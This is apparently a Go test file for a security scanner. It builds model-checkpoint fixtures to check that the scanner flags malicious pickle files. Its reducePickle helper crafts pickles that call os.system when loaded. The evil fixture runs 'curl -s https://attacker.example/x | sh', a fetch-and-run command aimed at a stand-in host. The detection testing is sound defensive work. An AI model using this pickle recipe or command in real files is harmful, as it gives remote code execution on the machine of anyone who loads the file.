package scan

import (
	"archive/zip"
	"bytes"
	"encoding/binary"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/overshare/overshare/internal/config"
	"github.com/overshare/overshare/internal/detect"
	"github.com/overshare/overshare/internal/finding"
	"github.com/overshare/overshare/internal/sevenzip/sevenzipwrite"
)

// reducePickle is a protocol 2 pickle that calls module.name(arg) when
// loaded: PROTO, GLOBAL, BINUNICODE, TUPLE1, REDUCE, STOP.
func reducePickle(module, name, arg string) []byte {
	var b bytes.Buffer
	b.WriteString("\x80\x02c" + module + "\n" + name + "\n")
	b.WriteByte('X')
	binary.Write(&b, binary.LittleEndian, uint32(len(arg)))
	b.WriteString(arg + "\x85R.")
	return b.Bytes()
}

func torchZip(t *testing.T, pkl []byte) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for name, data := range map[string][]byte{"archive/data.pkl": pkl, "archive/version": []byte("3\n")} {
		w, err := zw.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		w.Write(data)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func sevenZipOf(t *testing.T, f sevenzipwrite.Folder) []byte {
	t.Helper()
	b, err := (&sevenzipwrite.Archive{Folders: []sevenzipwrite.Folder{f}}).Bytes()
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func TestModelFiles(t *testing.T) {
	dir := t.TempDir()
	evil := reducePickle("os", "system", "curl -s https://attacker.example/x | sh")
	files := map[string][]byte{
		"checkpoints/resnet.ckpt":   torchZip(t, evil),
		"checkpoints/evil.pkl":      evil,
		"checkpoints/benign.pkl":    []byte("\x80\x02}q\x00."),
		"checkpoints/counter.pkl":   reducePickle("collections", "OrderedDict", ""),
		"checkpoints/odd.pkl":       reducePickle("mylab.config", "Settings", "x"),
		"docs/notes.txt":            []byte("cos is a function\nnot a pickle\n"),
		"checkpoints/truncated.pkl": evil[:12],
		"checkpoints/random.bin":    bytes.Repeat([]byte{0x42, 0x17, 0x99}, 100),
		// 7z archives: one of documents is no model; one whose member is
		// under a coder overshare does not decode could hide one.
		"docs/manuals.7z":       sevenZipOf(t, sevenzipwrite.Folder{Method: sevenzipwrite.LZMA2, Files: []sevenzipwrite.File{{Name: "manual.txt", Data: []byte("read me\n")}}}),
		"checkpoints/packed.7z": sevenZipOf(t, sevenzipwrite.Folder{Coders: []sevenzipwrite.Coder{{ID: sevenzipwrite.IDPPMD, Props: []byte{6, 0, 0, 0, 1}}}, Packed: []byte("\x00\x01\x02\x03"), Files: []sevenzipwrite.File{{Name: "model.pt", Data: []byte("xxxx")}}}),
	}
	for name, data := range files {
		p := filepath.Join(dir, name)
		os.MkdirAll(filepath.Dir(p), 0o755)
		if err := os.WriteFile(p, data, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	res := run(t, Options{Targets: []string{dir}})
	byRule := map[string][]*finding.Finding{}
	for _, f := range res.Findings {
		byRule[f.Rule] = append(byRule[f.Rule], f)
	}
	exec := byRule[detect.RulePickleCodeExecution]
	if len(exec) != 1 {
		t.Fatalf("code-execution findings = %d, want 1 (one payload, several files): %+v", len(exec), res.Findings)
	}
	var paths []string
	for _, l := range exec[0].Locations {
		paths = append(paths, strings.TrimPrefix(l.Path, dir+"/"))
	}
	for _, want := range []string{"checkpoints/evil.pkl", "checkpoints/resnet.ckpt"} {
		if !strings.Contains(strings.Join(paths, " "), want) {
			t.Errorf("payload locations %v lack %s", paths, want)
		}
	}
	if exec[0].Severity != finding.Critical || !strings.Contains(exec[0].Title, "runs code when loaded") {
		t.Errorf("finding = %s %q", exec[0].Severity, exec[0].Title)
	}
	reasons := ""
	for _, r := range exec[0].Reasons {
		reasons += r.Text + "\n"
	}
	if !strings.Contains(reasons, "attacker.example") {
		t.Errorf("reasons do not show the command as evidence:\n%s", reasons)
	}
	if u := byRule[detect.RulePickleUnknown]; len(u) != 1 || !strings.HasSuffix(u[0].Locations[0].Path, "packed.7z") {
		t.Errorf("could-not-judge findings = %+v, want one, for packed.7z", u)
	}
	if n := len(byRule[detect.RulePickleSuspiciousImport]); n != 1 {
		t.Errorf("suspicious findings = %d, want 1 (mylab.config.Settings)", n)
	}
	for _, f := range res.Findings {
		for _, l := range f.Locations {
			if strings.Contains(l.Path, "benign") || strings.Contains(l.Path, "counter") || strings.Contains(l.Path, "notes") ||
				strings.Contains(l.Path, "random") || strings.Contains(l.Path, "manuals.7z") {
				t.Errorf("%s reported at %s", f.Rule, l.Path)
			}
		}
	}

	// A repository that vouches for its own class.
	cfg := config.Default()
	cfg.PickleAllow = []string{"mylab.config.Settings"}
	res = run(t, Options{Targets: []string{dir}, Config: cfg})
	for _, f := range res.Findings {
		if f.Rule == detect.RulePickleSuspiciousImport {
			t.Errorf("allowlisted class still reported: %q", f.Title)
		}
	}
}
